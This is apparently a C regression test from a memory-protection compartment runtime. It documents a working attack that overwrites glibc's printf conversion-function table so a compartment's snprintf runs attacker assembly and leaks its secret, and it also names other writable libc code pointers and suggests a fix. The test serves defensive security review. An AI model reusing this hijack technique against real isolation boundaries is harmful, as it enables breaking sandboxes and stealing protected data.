// Review 24, attacker model A (key-0 stores only: one store, no system
// call). glibc's printf follows a table of conversion functions that lives
// in key-0 memory, and calls through it with its caller's rights: one store
// there sends a compartment's snprintf to code the attacker chose, with
// the compartment's PKRU.
//
// runtime/plt.c makes every PLT jump of a start-up object read a read-only
// copy of its GOT word (review 19), so no store into libc's .got.plt moves
// a compartment's control any more. But libc's code also calls through
// function pointers that are plain data: once a program registers a
// conversion of its own (register_printf_specifier, a documented API;
// here '%Y', whose functions are the program's, wrapped, so they run as
// the default domain), libc's .bss holds __printf_arginfo_table and
// __printf_function_table, pointers to a calloc'd array of 2 x 256
// function pointers (the default domain's heap, key 0), and every
// vfprintf takes the positional path, which calls
// __printf_function_table[c] for each conversion c whose entry is not
// NULL. The attacker finds the array (libc's writable data and the heap
// are key 0: loads only) and stores the address of code of the program's
// into the entry of 'd'. The vault's snprintf("id=%d") then calls that
// code with the vault's PKRU: it copies the vault's secret into key-0
// memory. The code here is a file-scope asm routine (the pass does not
// see it, so it has no wrapper), as in attacks-rev23-rseq-timer-thread.c;
// libc's own functions would run with the vault's rights as well.
//
// This is libc's process-wide state ("Shared code also follows libc's own
// process-wide state" in docs/threat-model.md, stdio's FILE buffers,
// attacks-review2-stdio.c), but a code pointer, not data: the attacker
// picks the code a compartment runs. Other such words (not tried): the
// stdio wide-character vtable (FILE._wide_data->_wide_vtable, not checked
// by glibc's vtable validation; stdout's FILE is in libc's .data),
// obstack_alloc_failed_handler, libgcc_s's list of registered frame
// objects (personality routines, as in dso/attacks-rev22-unwind.test).
// Without a registration the attacker needs two stores (the two table
// pointers in libc's .bss, at offsets known from libc's binary) and an
// array of its own.
//
// Seen in the guest (filter on): ATTACK SUCCEEDED, the secret read back;
// control (no store): the vault's line prints, nothing leaks.
//
// Suggested fix: a compartment's libc must not follow code pointers the
// default domain can write. For this table: the runtime interposes
// register_printf_specifier, register_printf_function,
// register_printf_modifier and register_printf_type and refuses them once
// a compartment exists (one line, non-zero exit), so the table pointers
// stay NULL; the filter cannot keep libc's .bss words read-only, so a
// compartment entry (or the runtime's vfprintf interposer) checks they are
// NULL. Or send a compartment's printf family through the default domain
// with its arguments copied, as pthread_create is. Either way, list
// libc's writable code pointers in docs/threat-model.md's state table.
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// CONTROL: vault says: id=2424
// CONTROL: held: nothing leaked
// RUN: %run %t | FileCheck %s
// CHECK: conversion table found
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attacks-rev24-printf-table: done
#define _GNU_SOURCE
#include <bulkhead.h>
#include <printf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

BULKHEAD_DATA(vault) static char vault_secret[64];
char *secret_at; /* its address (not a secret), for the routine */
volatile char leak[64];
volatile int leaked;

BULKHEAD_ENTRY(vault) void vault_init(void) {
  snprintf(vault_secret, sizeof vault_secret, "vault-secret-%d", 2424);
}

/* Honest work: the vault formats a line for its caller. */
BULKHEAD_ENTRY(vault) void vault_line(char *out, size_t n) {
  snprintf(out, n, "id=%d", 2424);
}

/* The program's own conversion, %Y. */
static int print_money(FILE *f, const struct printf_info *info,
                       const void *const *args) {
  (void)info;
  return fprintf(f, "$%d", **(const int *const *)args);
}
static int money_arginfo(const struct printf_info *info, size_t n, int *types,
                         int *size) {
  (void)info;
  if (n)
    types[0] = PA_INT;
  *size = sizeof(int);
  return 1;
}

/* Code of the program's that copies the secret to key-0 memory and
 * answers "nothing printed". */
__asm__(".text\n"
        ".p2align 4\n"
        ".globl rev24_copy\n"
        "rev24_copy:\n"
        "  movq secret_at(%rip), %rsi\n"
        "  leaq leak(%rip), %rdi\n"
        "  movl $63, %ecx\n"
        "1: movb (%rsi), %al\n"
        "  movb %al, (%rdi)\n"
        "  incq %rsi\n"
        "  incq %rdi\n"
        "  decl %ecx\n"
        "  jnz 1b\n"
        "  movl $1, leaked(%rip)\n"
        "  xorl %eax, %eax\n"
        "  ret\n");
extern char rev24_copy[];

/* Key-0 writable mappings (smaps: ProtectionKey 0), the attacker's map. */
static struct {
  uintptr_t lo, hi;
  int libc;
} maps[256];
static int nmaps;

static void read_maps(void) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char l[512];
  int cur = -1, prev_libc = 0;
  while (f && fgets(l, sizeof l, f)) {
    unsigned long a, b;
    char p[8];
    int key;
    if (sscanf(l, "%lx-%lx %7s", &a, &b, p) == 3) {
      int libc = strstr(l, "/libc.so.6") != NULL;
      cur = -1;
      if (p[0] == 'r' && p[1] == 'w' && !strstr(l, "[v") && nmaps < 256) {
        cur = nmaps++;
        maps[cur].lo = a, maps[cur].hi = b;
        /* libc's .bss runs on in the anonymous mapping after its data */
        maps[cur].libc = libc || (prev_libc && !strchr(l, '/'));
      }
      prev_libc = libc && p[1] == 'w';
    } else if (cur >= 0 && sscanf(l, "ProtectionKey: %d", &key) == 1 && key)
      maps[cur].lo = maps[cur].hi = 0; /* a compartment's: not readable */
  }
  if (f)
    fclose(f);
}

static int key0(uintptr_t a, size_t len) {
  for (int i = 0; i < nmaps; i++)
    if (a >= maps[i].lo && a + len <= maps[i].hi)
      return 1;
  return 0;
}

/* The function array: a word in libc's data pointing at 256 words whose
 * 'Y' entry is the program's print_money (its address is in the binary). */
static uintptr_t *function_table(void) {
  for (int i = 0; i < nmaps; i++)
    for (uintptr_t *w = (uintptr_t *)maps[i].lo;
         maps[i].libc && w < (uintptr_t *)maps[i].hi; w++)
      if (*w % 8 == 0 && key0(*w, 256 * sizeof(uintptr_t)) &&
          ((uintptr_t *)*w)['Y'] == (uintptr_t)print_money)
        return (uintptr_t *)*w;
  return NULL;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  int control = argc > 1 && !strcmp(argv[1], "control");
  vault_init();
  secret_at = vault_secret;
  register_printf_specifier('Y', print_money, money_arginfo);
  const char *own = "the program's conversion: %Y\n"; /* not clang's */
  printf(own, 5);
  if (!control) {
    read_maps();
    uintptr_t *table = function_table();
    if (!table) {
      printf("no conversion table found\n");
      return 2;
    }
    printf("conversion table found\n");
    table['d'] = (uintptr_t)rev24_copy; /* the attacker's one store */
  }
  char line[64] = "";
  vault_line(line, sizeof line);
  printf("vault says: %s\n", line);
  if (leaked)
    printf("ATTACK SUCCEEDED: the vault's snprintf ran the program's code "
           "with the vault's rights: %s\n", (const char *)leak);
  else
    printf("held: nothing leaked\n");
  printf("attacks-rev24-printf-table: done\n");
  return 0;
}
